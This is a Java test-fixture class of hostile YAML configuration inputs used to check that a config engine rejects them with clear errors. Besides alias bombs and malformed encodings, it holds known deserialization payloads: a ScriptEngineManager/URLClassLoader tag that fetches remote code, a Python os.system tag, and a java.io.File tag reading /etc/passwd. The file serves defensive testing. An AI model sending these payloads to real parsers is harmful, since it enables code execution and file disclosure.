package dev.blueprint.testing;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;

/** Hostile configuration files, each with a fragment its one clear error must contain; shared by the engine's and the CLI's tests. */
public final class HostileInputs {
    private HostileInputs() {
    }

    /** Writes {@code content} as {@code dir/integrations.yaml}, the way a user's file reaches the engine. */
    public static Path write(Path dir, byte[] content) {
        try {
            return Files.write(dir.resolve("integrations.yaml"), content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** 10^30 strings once expanded: 30 anchors, each a list of ten aliases to the previous one. */
    public static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }
        return yaml.toString();
    }

    public static byte[] randomBinary() {
        byte[] data = new byte[64 << 10];
        new Random(7).nextBytes(data); // seeded: the same bytes every run
        return data;
    }

    public static String deepBlockMaps(int depth) {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            yaml.append("  ".repeat(i)).append('k').append(i).append(":\n");
        }
        return yaml.toString();
    }

    /** Each hostile input, with a fragment its one clear error must contain. */
    public static Map<String, Map.Entry<byte[], String>> hostileInputs() {
        Map<String, Map.Entry<byte[], String>> inputs = new LinkedHashMap<>();
        inputs.put("alias bomb", Map.entry(bytes(aliasBomb()), "alias"));
        inputs.put("recursive alias", Map.entry(bytes("integrations: &a {x: *a}\n"), "recursive"));
        inputs.put("10,000 levels of [", Map.entry(bytes("a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n"), "nest"));
        inputs.put("10,000 levels of {", Map.entry(bytes("a: " + "{a: ".repeat(10_000) + "1" + "}".repeat(10_000) + "\n"), "nest"));
        inputs.put("40 levels of block maps", Map.entry(bytes(deepBlockMaps(40)), "nest"));
        inputs.put("2 MiB file", Map.entry(bytes("integrations: {}\n#" + "x".repeat(2 << 20) + "\n"), "MiB"));
        inputs.put("a 900 KiB scalar on one line", Map.entry(
                bytes("integrations:\n  x:\n    oauth_client_id: " + "c".repeat(900 << 10) + "\n"), "characters long"));
        inputs.put("random binary", Map.entry(randomBinary(), "UTF-8"));
        inputs.put("invalid UTF-8", Map.entry(new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'}, "UTF-8"));
        inputs.put("UTF-16 with a byte order mark", Map.entry("\uFEFFintegrations: {}\n".getBytes(StandardCharsets.UTF_16), "UTF-8"));
        inputs.put("NUL bytes", Map.entry(new byte[] {'a', ':', ' ', 0, 0, 0, '\n'}, "plain text"));
        inputs.put("terminal escapes", Map.entry(bytes("integrations: \u001b[2J\u0007\n"), "plain text"));
        inputs.put("java tag", Map.entry(bytes("integrations: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"), "tag"));
        inputs.put("java tag on a nested value", Map.entry(bytes("integrations:\n  x:\n    oauth_client_id: !!java.io.File /etc/passwd\n"), "tag"));
        inputs.put("python tag", Map.entry(bytes("integrations: !!python/object/apply:os.system [id]\n"), "tag"));
        inputs.put("custom tag", Map.entry(bytes("integrations: !evil {}\n"), "tag"));
        inputs.put("binary tag", Map.entry(bytes("integrations: !!binary aGVsbG8=\n"), "tag"));
        inputs.put("set tag", Map.entry(bytes("integrations: !!set {a, b}\n"), "tag"));
        inputs.put("merge key", Map.entry(bytes("base: &b {extends_blueprint: outreach:v0}\nintegrations:\n  x:\n    <<: *b\n"), "merge"));
        inputs.put("duplicate key", Map.entry(bytes("integrations: {}\nintegrations: {}\n"), "duplicate"));
        inputs.put("duplicate nested key", Map.entry(
                bytes("integrations:\n  x:\n    retry: {max_attempts: 1, max_attempts: 2}\n"), "integrations.x.retry.max_attempts: duplicate"));
        return inputs;
    }
}
